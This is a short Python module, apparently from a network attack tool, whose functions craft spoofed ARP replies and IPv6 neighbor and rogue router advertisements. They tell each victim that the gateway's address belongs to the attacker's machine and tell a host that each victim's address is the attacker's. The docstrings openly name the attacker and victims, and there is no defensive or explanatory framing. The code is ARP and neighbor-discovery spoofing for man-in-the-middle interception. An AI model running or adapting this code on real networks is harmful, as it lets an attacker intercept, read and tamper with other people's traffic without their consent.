"""Claims of addresses that are somebody else's."""

import wire
from field import Field
from guest import Guest


def of_address(field: Field, address: bytes, to: bytes, to_address: bytes, link: bytes | None = None, is_router: bool = False) -> bytes:
    """A frame by which the attacker says to one machine that an address is its own."""
    me = link or field.me.link
    if len(address) == 4:
        return wire.arp(to, me, 2, (me, _text(address)), (to, _text(to_address)))
    return wire.discovery(to, me, (address, to_address), wire.advertisement(address, me, 0xE0000000 if is_router else 0x60000000))


def _text(address: bytes) -> str:
    return ".".join(map(str, address))


def of_gateway(field: Field) -> list[bytes]:
    """Says to every victim that the gateway is here, by each means that there is."""
    frames = [of_address(field, field.gateway, one.link, field.own(one), is_router=True) for one in field.victims]
    if field.family == 6:
        everyone, source = wire.ip("ff02::1"), wire.ip(field.me.local6)
        frames.append(wire.discovery(wire.mac("33:33:00:00:00:01"), field.me.link, (source, everyone),
                                     wire.router_advertisement(field.me.link, 1800)))
    return frames


def of_victims(field: Field, victims: list[Guest] | None = None) -> list[bytes]:
    """Says to the host that each victim's address is here."""
    host = wire.ip("192.0.2.1" if field.family == 4 else "2001:db8:2::1")
    return [of_address(field, field.own(one), field.bridge, host) for one in victims or field.victims]
